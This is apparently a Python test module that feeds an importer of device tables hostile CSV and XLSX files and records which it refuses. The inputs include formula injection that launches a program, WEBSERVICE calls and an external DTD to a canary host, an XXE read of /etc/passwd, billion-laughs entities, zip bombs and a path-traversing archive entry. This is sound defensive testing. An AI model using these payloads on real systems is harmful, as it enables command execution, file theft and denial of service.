"""Tables as text and workbooks: bombs, formulas, links, definitions, lies about size, cells that are no values."""

import io
import struct
import zipfile
from collections.abc import Iterator

import openpyxl
from openpyxl.worksheet.datavalidation import DataValidation

from tests.hostile.case import CANARY, REFUSED, TAKEN, Case

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADS = (
    ("short name", "name", "brand", "kind", "index", "memory", "sold", "page"),
    (
        "@id cfit:DeviceModel https://w3id.org/cfit/id/device/{}",
        "schema:name xsd:string",
        "schema:brand @id",
        "cfit:deviceKind https://w3id.org/cfit/id/device-kind/{}",
        "cfit:repairabilityIndex xsd:decimal",
        "cfit:memorySize xsd:integer",
        "schema:releaseDate xsd:date",
        "cfit:repairInstructions @id",
    ),
)
BRAND = "https://w3id.org/cfit/id/brand/invented"
PHONE = ("nl-ict-p", "P (invented)", BRAND, "smartphone", "", "", "", "")
SHEET, TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    "<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]><a>&a9;</a>"
)


def cases() -> Iterator[Case]:
    """All of them."""
    for name, (body, *expected) in texts().items():
        yield Case(f"CSV: {name}", CSV, body if isinstance(body, bytes) else body.encode(), *expected)
    for group in (workbooks, packings):
        for name, (body, *expected) in group().items():
            yield Case(f"{group.__name__}: {name}", XLSX, body, *expected)


def line(cells: tuple[str, ...]) -> str:
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells) + "\r\n"


def table(*rows: tuple[str, ...]) -> str:
    return "".join(map(line, (*HEADS, *rows)))


def row(**cells: str) -> tuple[str, ...]:
    names = ("subject", "name", "brand", "kind", "index", "memory", "sold", "page")
    return tuple(cells.get(name, PHONE[place]) for place, name in enumerate(names))


def texts() -> dict[str, tuple]:
    sound = table(PHONE)
    return {
        "sound": (sound, TAKEN),
        "empty": ("", REFUSED, "table-no-terms"),
        "heads only": (table(), TAKEN),
        "no row of terms": (line(HEADS[0]) + line(PHONE), REFUSED),
        "a formula": (table(row(name="=cmd|'/c calc'!A0")), TAKEN),
        "a formula that fetches": (table(row(name=f'=WEBSERVICE("{CANARY}/a")')), TAKEN),
        "a quotation mark that stays open": (sound + '"abc', REFUSED, "table-not-csv"),
        "a quotation mark in the middle": (sound + 'a"b"c,"d"e\r\n', REFUSED),
        "a million quotation marks": (sound + '"' * 999_999, REFUSED),
        "a million commas": (sound + "," * 1_000_000, TAKEN),
        "a million commas and a letter": (sound + "," * 1_000_000 + "x", REFUSED, "limit-rows"),
        "three hundred thousand empty lines": (sound + "\r\n" * 300_000, TAKEN),
        "a cell of a million letters": (table(row(name="a" * 1_000_000)), REFUSED, "limit-literal"),
        "ten thousand broken rows": (table(*[("a b", "", "", "", "", "", "", "")] * 10_000), REFUSED, "table-address"),
        "NUL": (sound.replace("P (inv", "P\x00(inv"), REFUSED, "syntax-nul"),
        "UTF-16": (sound.encode("utf-16"), REFUSED, "syntax-utf-16"),
        "Latin 1": (sound.replace("P (inv", "\xe9 (inv").encode("latin-1"), REFUSED, "syntax-not-utf-8"),
        "a mark at the beginning": (b"\xef\xbb\xbf" + sound.encode(), TAKEN),
        "a workbook": (workbook(PHONE), REFUSED, "syntax-other-format"),
        "HTML": ("<html><table><tr><td>a</td></tr></table></html>", REFUSED, "syntax-other-format"),
        "JSON": ('{"a": 1}', REFUSED, "syntax-other-format"),
        "the class of a rule": (sound.replace("cfit:DeviceModel", "sh:NodeShape"), REFUSED),
        "a property that is a rule": (
            sound.replace("schema:name xsd", "owl:sameAs xsd"),
            REFUSED,
            "policy-odd-address",
        ),
        "a column twice": (sound.replace("cfit:repairInstructions @id", "schema:name xsd:string"), TAKEN),
        "a type that is none": (sound.replace("xsd:decimal", "rdf:HTML"), REFUSED, "table-term"),
        "the device of another group": (table(row(subject="de-it-p")), REFUSED, "policy-not-yours"),
        "a name that climbs": (table(row(subject="../group/nl-ict")), REFUSED),
        "a name that is an address": (table(row(subject="https://w3id.org/cfit/ontology#DeviceModel")), REFUSED),
        "a script for a page": (table(row(page="javascript:alert(1)")), REFUSED, "policy-odd-address"),
        "a server that must not be asked": (table(row(page=f"{CANARY}/page")), TAKEN),
        "a number of five thousand digits": (table(row(memory="9" * 5_000)), REFUSED),
        "a number with an exponent": (table(row(index="1E400000000")), REFUSED),
        "the year 99999": (table(row(sold="99999-01-01")), TAKEN),
        "a date of a spreadsheet": (table(row(sold="46000")), REFUSED),
        "escape sequences of a terminal": (table(row(subject="\x1b]0;owned\x07 x")), REFUSED, "table-address"),
        "a thousand and one columns": (line(("x",) * 1_001) + line(("schema:name",) * 1_001), REFUSED),
    }


def workbook(*rows: tuple[object, ...], change=lambda book: None) -> bytes:
    book = openpyxl.Workbook()
    for cells in (*HEADS, *rows):
        book.active.append(list(cells))
    change(book)
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


def with_member(name: str, content: str | bytes, packed: bytes | None = None) -> bytes:
    out = io.BytesIO()
    old = zipfile.ZipFile(io.BytesIO(packed or workbook(PHONE)))
    with old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        new.writestr(name, content)
    return out.getvalue()


def with_rows(rows: str, around: str = "{}") -> bytes:
    return with_member(SHEET, around.format(f"<worksheet {MAIN}><sheetData>{_heads()}{rows}</sheetData></worksheet>"))


def _heads() -> str:
    return "".join(_row(number, [_text(cell) for cell in cells]) for number, cells in enumerate(HEADS, 1))


def _text(text: str) -> str:
    return f't="inlineStr"><is><t>{text}</t></is>'


def _row(number: int, cells: list[str]) -> str:
    return (
        f'<row r="{number}">'
        + "".join(f'<c r="{chr(65 + n)}{number}" {each}</c>' for n, each in enumerate(cells))
        + "</row>"
    )


def cells(**changed: str) -> bytes:
    """A workbook with one phone, some of whose cells are other XML."""
    names = ("subject", "name", "brand", "kind", "index", "memory", "sold", "page")
    return with_rows(
        _row(
            3,
            [
                changed.get(name, _text(PHONE[place]))
                for place, name in enumerate(names)
                if name in changed or PHONE[place]
            ],
        )
    )


def workbooks() -> dict[str, tuple]:
    def linked(book: openpyxl.Workbook) -> None:
        book.active["B3"].hyperlink = f"{CANARY}/link"

    def listed(book: openpyxl.Workbook) -> None:
        rule = DataValidation(type="list", formula1=f'WEBSERVICE("{CANARY}/list")')
        book.active.add_data_validation(rule)
        rule.add("D3")

    return {
        "sound": (workbook(PHONE), TAKEN),
        "empty": (workbook_of_nothing(), REFUSED, "table-no-terms"),
        "a formula": (workbook(row(name="=1+1")), REFUSED, "table-formula"),
        "a formula that fetches": (workbook(row(name=f'=WEBSERVICE("{CANARY}/a")')), REFUSED, "table-formula"),
        "a formula that runs a program": (workbook(row(name="=cmd|'/c calc'!A0")), REFUSED, "table-formula"),
        "a formula over a range": (cells(name='><f t="array" ref="A1:XFD1048576">ROW()</f><v>1</v>'), REFUSED),
        "a formula in the terms": (
            with_member(
                SHEET,
                f'<worksheet {MAIN}><sheetData><row r="1"/><row r="2">'
                '<c r="A2"><f>A1</f></c></row></sheetData></worksheet>',
            ),
            REFUSED,
        ),
        "an error": (workbook(row(name="#REF!")), REFUSED, "table-error"),
        "a link behind a cell": (workbook(PHONE, change=linked), TAKEN),
        "a list that is fetched": (workbook(PHONE, change=listed), TAKEN),
        "a book elsewhere": (
            with_member(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                f'<Relationships><Relationship Target="{CANARY}/b" TargetMode="External"/></Relationships>',
            ),
            TAKEN,
        ),
        "a number that is no finite one": (cells(index="><v>1E400</v>"), REFUSED),
        "a date beyond the calendar": (cells(sold='s="1"><v>99999999999</v>'), REFUSED),
        "a truth that is none": (cells(name='t="b"><v>9</v>'), TAKEN),
        "a text that is not there": (cells(name='t="s"><v>99999999</v>'), REFUSED),
        "a text before the first": (cells(name='t="s"><v>-1</v>'),),
        "half a pair": (cells(name=_text("_xD800_")), TAKEN),
        "a cell far away": (with_rows('<row r="3"><c r="XFD3"><v>1</v></c></row>'), REFUSED),
        "a cell beyond all": (with_rows('<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>'), REFUSED),
        "a row far away": (with_rows('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), REFUSED),
        "a row beyond all": (with_rows('<row r="99999999999"><c><v>1</v></c></row>'), REFUSED),
        "rows backwards": (with_rows('<row r="1"><c r="A1"><v>1</v></c></row>'), TAKEN),
        "a sheet that says it is endless": (with_rows("", "<!-- a -->{}").replace(b"x", b"x"), TAKEN),
        "merged cells everywhere": (
            with_member(
                SHEET,
                f"<worksheet {MAIN}><sheetData>{_heads()}</sheetData>"
                '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
            ),
            TAKEN,
        ),
        "two hundred thousand and one rows": (with_rows("<row/>" * 200_001), REFUSED),
        "fifty thousand empty cells in a row": (
            with_rows('<row r="3">' + "<c/>" * 50_000 + "</row>"),
            REFUSED,
            "limit-rows",
        ),
    }


def workbook_of_nothing() -> bytes:
    packed = io.BytesIO()
    openpyxl.Workbook().save(packed)
    return packed.getvalue()


def packings() -> dict[str, tuple]:
    sound = workbook(PHONE)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        packed.writestr("xl/media/a.bin", b"\0" * 101_000_000)
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as packed:
        for number in range(1_001):
            packed.writestr(f"{number}", b"")
    return {
        "a bomb": (bomb.getvalue(), REFUSED, "limit-unpacked"),
        "a bomb in a bomb": (with_member("xl/a.zip", bomb.getvalue()), TAKEN),
        "a thousand and one parts": (many.getvalue(), REFUSED, "table-not-xlsx"),
        "the same part a hundred times": (repeated(sound), TAKEN),
        "a billion laughs in the sheet": (with_member(SHEET, LAUGHS), REFUSED, "table-not-xlsx"),
        "a billion laughs in the texts": (with_member(TEXTS, LAUGHS), REFUSED, "table-not-xlsx"),
        "a billion laughs in the styles": (with_member("xl/styles.xml", LAUGHS), REFUSED, "table-not-xlsx"),
        "a billion laughs in UTF-16": (with_member(TEXTS, LAUGHS.encode("utf-16")), REFUSED, "table-not-xlsx"),
        "a billion laughs in the types": (with_member("[Content_Types].xml", LAUGHS), REFUSED, "table-not-xlsx"),
        "a file by a definition": (
            with_member(TEXTS, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
            REFUSED,
        ),
        "a server by a definition": (
            with_member(TEXTS, f'<!DOCTYPE a SYSTEM "{CANARY}/a.dtd"><a/>'),
            REFUSED,
            "table-not-xlsx",
        ),
        "XML a hundred thousand deep": (with_member(SHEET, "<a>" * 100_000), REFUSED),
        "XML that is cut off": (with_member(SHEET, f"<worksheet {MAIN}><sheetData><row"), REFUSED, "table-not-xlsx"),
        "a part that climbs": (with_member("../../../../tmp/owned", "x"), TAKEN),
        "a part with a password": (encrypted(sound), REFUSED, "table-not-xlsx"),
        "a size that is a lie": (lying(sound), TAKEN),
        "cut off": (sound[: len(sound) // 2], REFUSED, "table-not-xlsx"),
        "turned round": (sound[::-1], REFUSED, "table-not-xlsx"),
        "empty": (b"", REFUSED, "table-not-xlsx"),
        "an archive of nothing": (b"PK\x05\x06" + bytes(18), REFUSED, "table-not-xlsx"),
        "an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000), REFUSED, "table-not-xlsx"),
        "a document of a word processor": (with_only("word/document.xml", "<w/>"), REFUSED, "table-not-xlsx"),
        "no sheet": (without(SHEET), REFUSED),
        "Turtle": (b"<urn:a> a <urn:b> .", REFUSED, "table-not-xlsx"),
    }


def repeated(sound: bytes) -> bytes:
    """An archive whose directory names one part a hundred times."""
    end = sound.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", sound[end + 16 : end + 20])[0]
    directory = sound[start:end]
    count = struct.unpack("<H", sound[end + 10 : end + 12])[0]
    tail = bytearray(sound[end:])
    tail[8:12] = struct.pack("<HH", count * 100, count * 100)
    tail[12:16] = struct.pack("<I", len(directory) * 100)
    return sound[:start] + directory * 100 + bytes(tail)


def encrypted(sound: bytes) -> bytes:
    changed = bytearray(sound)
    place = changed.rindex(b"PK\x01\x02")
    changed[place + 8] |= 1
    return bytes(changed)


def lying(sound: bytes) -> bytes:
    changed = bytearray(sound)
    place = changed.index(b"PK\x01\x02")
    changed[place + 24 : place + 28] = (4_000_000_000).to_bytes(4, "little")
    changed[place + 20 : place + 24] = (4_000_000_000).to_bytes(4, "little")
    return bytes(changed)


def with_only(name: str, content: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as book:
        book.writestr(name, content)
    return packed.getvalue()


def without(name: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook(PHONE))) as old, zipfile.ZipFile(packed, "w") as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
    return packed.getvalue()
